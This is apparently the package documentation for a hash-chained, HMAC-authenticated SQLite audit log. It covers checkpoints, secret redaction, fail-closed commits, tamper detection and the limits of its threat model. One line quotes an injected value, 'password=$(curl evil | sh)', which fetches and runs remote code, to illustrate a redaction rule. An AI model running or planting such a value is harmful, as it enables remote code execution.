// Package audit is IronClaw's append-only, hash-chained audit log, kept in
// the audit_log table of the daemon's SQLite store (package store).
//
// Contract:
//
//   - Every record is {seq, time, session, actor, kind, data, prev_hash,
//     hash, mac}. seq counts from 1 with no gaps. prev_hash is the previous
//     record's hash (64 zeros for seq 1) and hash is
//     SHA-256(prev_hash || canonical encoding of the rest), hex-encoded. The
//     encoding is specified in record.go; it does not depend on Go's JSON
//     package or on the Go version, so a verifier can be written in any
//     language. mac does not enter the hash, so a tool that checks only the
//     SHA-256 chain keeps working.
//   - mac authenticates the record with a secret key kept outside the data
//     directory (see Key): HMAC-SHA256(key, "ironclaw.audit.mac.v1" || seq
//     || hash). Since hash covers every record before it, rewriting any
//     record and recomputing the chain needs the key. Records written before
//     the log had a key have no mac; they must all come first (the legacy
//     prefix, reported by Verify as Result.Legacy), and New refuses to
//     append unkeyed records to a keyed log or keyed ones under a key that
//     does not authenticate the newest record.
//   - Checkpoints: the chain head (seq, hash, mac) is appended, fsynced, to a
//     JSON-lines file outside the data directory (Options.CheckpointFile)
//     and optionally POSTed to a URL: at New, every CheckpointEvery records
//     (default 256), every CheckpointInterval while records arrive (30s) and
//     at Close. Verify compares the log with every checkpoint, so a cut tail
//     (a checkpoint past the end), a rewrite (a checkpointed record that
//     changed) and a deleted, edited or forged checkpoint file are reported
//     with the seq.
//   - data is a JSON object stored in canonical form (sorted keys, no
//     insignificant white space, one fixed string escaping), so semantically
//     equal data hashes the same.
//   - Records are bounded inside Append, for every caller: strings over
//     MaxStringBytes (4 KiB) are stored as their first ElidedPrefixBytes
//     (1 KiB), byte length and SHA-256; data over MaxDataBytes (16 KiB) has
//     its largest members, then if need be all of it, replaced the same way.
//     Session, actor and kind are at most 256 bytes. AppendRepeated
//     aggregates refusals an agent can repeat at will.
//   - Secrets are removed before a record is hashed or written: the Redactor
//     replaces provider keys, bearer tokens, values of secret-named keys and
//     caller-supplied exact secrets (fixed at NewRedactor, or replaced at
//     run time with SetExtra) with "[REDACTED]". The secret never
//     reaches the database file. A redacted span never contains shell syntax
//     ($( ` ; | & < > quotes, line breaks), so a command cannot hide behind a
//     secret's name ("password=$(curl evil | sh)" is stored as written).
//   - Fail closed: Log.Append is safe for concurrent use and returns nil only
//     after the transaction holding its record has committed (store runs
//     SQLite with synchronous=FULL, so that means it survives kill -9 and
//     power loss). Otherwise it returns ErrStorageFull (a full disk, class
//     errdefs.ErrInsufficientStorage), ErrNotWritten or ErrClosed, and the
//     chain head is unchanged: appends work again once the cause is gone.
//     Begin writes an intent record before an action and Intent.End the
//     result after it, so no action happens whose record could not be made
//     durable first. AppendWith commits a change to the store (a row the
//     record is about) in the record's own transaction: both or neither,
//     for one fsync; a change the store refuses ends only its own record
//     (ErrChangeRefused), and the rest of the batch is written again
//     without it. AppendWithIntent is AppendWith followed by an intent
//     record in the same transaction (a sandbox's create and its first
//     command): one fsync for both, and an intent refused with its
//     record's change, so it never names what was not made. One committer goroutine assigns seq, chains hashes and
//     writes many pending records in one transaction (group commit), so
//     concurrent appenders share each fsync instead of paying one each.
//     What one batch costs (WAL, synchronous=FULL; counted with strace):
//     BEGIN IMMEDIATE, one multi-row INSERT per up to 256 records through
//     statements prepared at New (chained onto the head this Log committed:
//     another process's append makes the first seq conflict, and the batch
//     is written again onto the head read in the transaction), and a COMMIT
//     that writes the changed pages to the WAL and fsyncs it once; every
//     1000 WAL pages SQLite's automatic checkpoint copies the WAL into the
//     database file inside a commit (two more fsyncs), and every
//     CheckpointEvery records the checkpoint goroutine, not the committer,
//     fsyncs the checkpoint file. Redaction, bounding and canonical encoding
//     run on the appender's goroutine before it queues; the committer only
//     stamps, hashes, MACs and writes.
//   - The table refuses UPDATE and DELETE (triggers). Someone with write
//     access to the file can drop the triggers, or write the file's bytes
//     directly, so Verify recomputes the whole chain and every MAC and names
//     the first record that was edited, deleted, inserted, moved or
//     rewritten. VerifyDatabase does the same read-only without a daemon,
//     and VerifyExport on an Export.
//   - Tail, Follow, Verify and Export read through the store's read-only
//     pool and stream rows, so they neither block appends nor hold the whole
//     log in memory. Verify splits the log into one seq range per CPU,
//     checked at once (each record's hash depends only on its own stored
//     prev_hash), then checks the links between the ranges in order, so it
//     names the same first bad record a single pass would.
//
// What the key and the checkpoints do not stop. Someone with write access
// to the data directory only can still: delete the records after the newest
// checkpoint (at most CheckpointEvery records or CheckpointInterval of
// activity; Result.Checkpoints.Unproven counts them) without it showing;
// destroy the log or corrupt it so the daemon refuses to start (detected,
// not prevented). Someone who also holds the key can rewrite or cut any
// records after the newest checkpoint and recompute hashes and MACs; every
// record at or before a checkpoint stays protected as long as the
// checkpoint sink is out of their reach. Someone who can also write the
// checkpoint file (the daemon's own uid on the same host, or root) can
// rewrite everything, checkpoints included; against them only a sink on
// another machine helps (Options.CheckpointURL, or a file on append-only or
// remote storage), and the checkpoints it received then prove the log.
package audit
